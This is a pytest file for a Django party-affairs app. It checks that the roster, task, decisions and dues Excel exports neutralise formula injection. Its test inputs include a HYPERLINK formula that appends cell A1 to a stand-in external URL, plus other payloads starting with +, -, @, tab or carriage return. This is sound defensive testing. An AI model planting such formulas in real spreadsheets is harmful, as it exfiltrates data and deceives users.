"""No export writes a live formula: a name or title planted as `=HYPERLINK(...)` (or
starting with +, -, @, a tab or a carriage return) comes out as the text typed, in the
roster, task, 三重一大 and dues workbooks (issue 14: formula injection)."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dangjian.accounts.models import Role
from dangjian.core.sheets import saved
from dangjian.dues import services as dues
from dangjian.roster.services import export_roster
from tests.decisions.builders import matter
from tests.factories import make_member
from tests.tasks.builders import a_task

pytestmark = pytest.mark.django_db
PLANTED = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_the_shared_helper_types_every_text_cell_as_text():
    book = Workbook()
    for value in PLANTED:
        book.active.append([value, 1, dt.date(2025, 1, 1)])
    assert book.active["A1"].data_type == "f"  # what openpyxl does on its own
    content = saved(book).getvalue()
    assert formulas(content) == []
    assert set(PLANTED) <= texts(content)


def test_the_roster_export(world, tmp_path):
    make_member(world.ha_b1, name=PLANTED[0])
    path = tmp_path / "roster.xlsx"
    export_roster(world.ha, path, reason="核对")
    content = path.read_bytes()
    assert formulas(content) == [] and PLANTED[0] in texts(content)


def test_the_task_export(client, world):
    from dangjian.tasks import services

    target = services.create_target_list(world.ha, year=dt.date.today().year)
    area = services.add_area(target, "组织建设")
    for title in PLANTED[:4]:
        a_task(area, world.ha_b1, title=title, due=dt.date.today() + dt.timedelta(days=9))
    client.force_login(world.user(Role.OFFICE, "A"))
    response = client.get(reverse("tasks:export") + f"?org={world.ha.code}")
    content = b"".join(response.streaming_content)
    assert formulas(content) == [] and set(PLANTED[:4]) <= texts(content)


def test_the_decisions_export(client, world):
    matter(world.ha, title=PLANTED[0])
    client.force_login(world.user(Role.OFFICE, "A"))
    response = client.get(reverse("decisions:export") + f"?org={world.ha.code}")
    content = b"".join(response.streaming_content)
    assert formulas(content) == [] and PLANTED[0] in texts(content)


def test_the_dues_export(client, world):
    member = make_member(world.ha_b1, name="@SUM(A1)")
    dues.fix_base(member, category="in_service", base="4500", effective_from=dt.date(2024, 1, 1))
    dues.generate_bills(dt.date(2024, 1, 1), world.ha.path)
    client.force_login(world.user(Role.OFFICE, "A"))
    response = client.get(reverse("dues:export"), {"org": world.ha.code, "year": 2024})
    assert formulas(response.content) == [] and "@SUM(A1)" in texts(response.content)
